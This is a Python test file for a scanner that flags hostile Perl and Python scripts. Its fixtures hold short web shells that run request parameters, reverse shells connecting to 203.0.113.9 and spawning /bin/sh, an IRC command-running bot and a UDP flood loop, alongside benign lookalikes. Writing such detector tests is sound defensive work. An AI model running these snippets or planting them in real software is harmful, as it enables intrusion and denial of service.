from __future__ import annotations

import pytest

from pratique.content.base import Content
from pratique.content.identify import identify
from pratique.content.mark import Mark
from pratique.content.script.interpreted import ANALYSER


def seen(text, name):
    content = Content(text.encode(), f"/srv/{name}", identify(text.encode(), name))
    found = [one for one in ANALYSER.find(content) if isinstance(one, Mark)]
    return {one.mark for one in found if one.confidence >= 0.7}


@pytest.mark.parametrize(
    ("mark", "name", "text"),
    [
        ("page-runs-request", "a.pl", "use CGI;\nmy $c = param('c');\nprint `$c`;\n"),
        (
            "page-runs-request",
            "a.cgi",
            '#!/usr/bin/perl\n$q = $ENV{"QUERY_STRING"};\nsystem("$q 2>&1");\n',
        ),
        ("page-runs-request", "a.pl", "use CGI;\n$c = param('c');\nopen(F, \"$c |\");\n"),
        (
            "page-runs-request",
            "a.pl",
            "%F = parse($ENV{'QUERY_STRING'});\n$c = $F{'c'};\nopen(F, \"($c) 2>&1 |\");\n",
        ),
        (
            "script-connects-back",
            "a.pl",
            (
                "socket(S,PF_INET,SOCK_STREAM,$t);\nconnect(S,$a);\n"
                'open(STDIN,">&S");open(STDOUT,">&S");\nexec("/bin/sh -i");\n'
            ),
        ),
        (
            "script-runs-chat",
            "a.pl",
            (
                'use IO::Socket;\nprint $s "NICK $n\\n"; print $s "JOIN #x\\n";\n'
                "if ($l =~ /PRIVMSG/) { $c = $1; @r = `$c`; }\n"
            ),
        ),
        (
            "page-runs-request",
            "a.py",
            "import cgi, os\nform = cgi.FieldStorage()\nos.popen(form.getvalue('c')).read()\n",
        ),
        ("page-runs-request", "a.py", "import os\nos.system(os.environ['QUERY_STRING'])\n"),
        (
            "script-connects-back",
            "a.py",
            (
                "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.9',99))\n"
                "os.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n"
            ),
        ),
        (
            "script-runs-remote",
            "a.py",
            "import socket, subprocess\nc = s.recv(1024)\nsubprocess.Popen(c, shell=True)\n",
        ),
        (
            "script-floods",
            "a.py",
            (
                "import socket, random, sys\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                "while True:\n    s.sendto(random.randbytes(9), (sys.argv[1], 53))\n"
            ),
        ),
    ],
)
def test_sees(mark, name, text):
    assert mark in seen(text, name)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.pl", "my $x = shift;\nsystem('ls', $x);\n"),
        ("a.pl", "use CGI;\nmy $c = param('c');\nprint \"$c\";\nsystem('uptime');\n"),
        ("a.pl", "$h = $`; $q = $ENV{QUERY_STRING}; system('date');\n"),
        ("a.pl", "use Socket;\nsocket(S,PF_INET,SOCK_STREAM,$t);\nexec('/bin/sh', $ARGV[0]);\n"),
        ("a.pl", "use CGI;\nprint 1;\n__END__\nsystem(param('c'));\n"),
        ("a.py", "import subprocess, sys\nsubprocess.run(sys.argv[1:])\n"),
        ("a.py", "import socket, subprocess\ns.recv(9)\nsubprocess.run(['ls'])\n"),
        ("a.py", "import os\nos.system('ls ' + os.environ['HOME'])\n"),
        ("a.py", "x = StringIO()\nexec(compile(x.getvalue(), 'a', 'exec'))\n# chr("),
        ("a.pl", "use Socket; my ($a, $b) = f('a text that is long enough'); eval \"$a pack(\";\n"),
        (
            "a.py",
            "import subprocess\n"
            + "".join(f"def f{n}(): pass\n" for n in range(20))
            + "a = urlopen('http://example.org').read()\nsubprocess.Popen(a)\n",
        ),
        ("a.txt", "system(param('c'))"),
    ],
)
def test_leaves_alone(name, text):
    assert seen(text, name) == set()
